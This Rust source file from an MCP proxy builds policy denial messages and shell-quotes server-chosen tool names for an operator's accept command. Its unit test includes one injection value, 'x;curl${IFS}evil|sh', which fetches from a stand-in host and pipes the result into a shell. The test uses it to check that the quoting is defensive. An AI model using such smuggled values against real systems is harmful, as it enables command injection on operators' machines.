//! Denials of MCP messages.

use std::sync::Arc;

use crate::contract::{Code, Denial, Effect, McpTarget};

/// The longest reason or name that denials and the audit quote, in bytes. Longer ones are cut.
const MAX_REASON: usize = 512;

/// The beginning of the sentence with which a policy's reason is denied.
pub(super) const DENIED: &str = "Denied by policy: ";

/// The server and the tool of a message, by their names in policies, audit and denials.
#[derive(Clone, Debug)]
pub(super) struct Target {
    pub(super) server: Arc<str>,
    /// The server's own name for the tool. Present only for a call of a tool, and for a client's
    /// answer that is judged like such a call.
    pub(super) tool: Option<Arc<str>>,
}

impl Target {
    /// `None` for a message without a server.
    pub(super) fn of(target: &McpTarget) -> Option<Self> {
        let tool = match target {
            McpTarget::Tool { name, .. } => Some(Arc::clone(name)),
            McpTarget::Gateway | McpTarget::Refused | McpTarget::Server(_) => None,
        };
        let server = Arc::clone(target.server()?);
        Some(Self { server, tool })
    }

    /// `{server}_{tool}`, or the server alone.
    pub(super) fn name(&self) -> String {
        match &self.tool {
            Some(tool) => [&*self.server, "_", tool].concat(),
            None => self.server.to_string(),
        }
    }

    /// The denial of one message, without an effect on later messages.
    pub(super) fn deny(&self, reason: &str) -> Denial {
        let reason = cut(reason);
        let sentence = format!("{DENIED}{reason}");
        let denial = Denial::new(Code::PolicyDeniedContinue, sentence);
        self.detailed(
            denial.with("decision", Effect::DenyContinue.as_str()),
            reason,
        )
    }

    /// The denial of a message on which a policy decides `deny_abort`. That decision sets the
    /// container's abort latch. While the latch is set, tool calls, other requests that may carry
    /// text, and answers to servers are denied in the same way.
    pub(super) fn abort(&self, reason: &str) -> Denial {
        let reason = cut(reason);
        let sentence = format!(
            "Denied by policy; all tool calls of this container are denied until an operator resets it: {reason}"
        );
        let denial = Denial::new(Code::PolicyDenied, sentence);
        let denial = denial
            .with("type", Code::PolicyDenied.as_str())
            .with("decision", Effect::DenyAbort.as_str());
        self.detailed(denial, reason)
    }

    fn detailed(&self, denial: Denial, reason: &str) -> Denial {
        let denial = denial.with("server", &*self.server);
        let denial = match &self.tool {
            Some(tool) => denial.with("tool", &**tool),
            None => denial,
        };
        denial.with("reason", reason)
    }

    /// The denial of a message if a policy failed to decide, or returned an invalid replacement.
    pub(super) fn evaluator_failed(&self, reason: &str) -> Denial {
        let reason = cut(reason);
        let sentence = format!("The policy could not be evaluated: {reason}");
        Denial::new(Code::PolicyEvaluatorError, sentence)
            .with("name", self.name())
            .with("reason", reason)
            .rule("policies")
            .hint("repair the policy that mcp.yaml names under policies; the log has the reason")
    }

    /// The denial of a server's error whose code or message is reserved for the proxy.
    pub(super) fn misused(&self, code: i64) -> Denial {
        let sentence = format!(
            "{} answered with an error that is reserved for the proxy",
            self.server
        );
        Denial::new(Code::PolicyBackendReservedMisuse, sentence)
            .with("name", self.name())
            .with("backend_code", code)
    }
}

pub(super) fn unknown_tool(name: &str) -> Denial {
    let name = cut(name);
    Denial::new(Code::ToolNotFound, format!("Unknown tool: {name}"))
        .hint("list the tools: unified-proxy mcp list")
}

/// The denial of a message to a server that is not mounted for the container.
pub(super) fn unknown_server(name: &str) -> Denial {
    let sentence = format!("No MCP server {} is mounted for this container", cut(name));
    Denial::new(Code::ToolNotFound, sentence)
        .hint("mount it under mcpServers in mcp.yaml, with this container under containers")
}

/// Truncates a text to at most [`MAX_REASON`] bytes, at a character boundary.
pub(super) fn cut(text: &str) -> &str {
    let end = text.floor_char_boundary(MAX_REASON);
    text.get(..end).unwrap_or_default()
}

/// The command with which an operator accepts the changed definition of a tool. A server chooses
/// the tool's name, and operators paste the command into a shell, so the name is quoted for sh.
#[must_use]
pub fn accept_command(server: &str, tool: &str) -> String {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_-./".contains(&byte);
    let quoted = match tool.bytes().all(is_plain) {
        true => tool.to_owned(),
        false => format!("'{}'", tool.replace('\'', r"'\''")),
    };
    let is_like_an_option = server.starts_with('-') || tool.starts_with('-');
    let options_end = if is_like_an_option { "-- " } else { "" };
    format!("unified-proxy mcp accept {options_end}{server} {quoted}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_command_that_accepts_a_definition_passes_any_tool_name_as_one_argument() {
        for (server, tool, expected) in [
            ("kb", "fetch", "kb fetch"),
            ("kb", "x;curl${IFS}evil|sh", "kb 'x;curl${IFS}evil|sh'"),
            ("kb", "it's", r"kb 'it'\''s'"),
            ("kb", "--json", "-- kb --json"),
            ("-kb", "fetch", "-- -kb fetch"),
        ] {
            let command = accept_command(server, tool);
            assert_eq!(command, format!("unified-proxy mcp accept {expected}"));
        }
    }
}
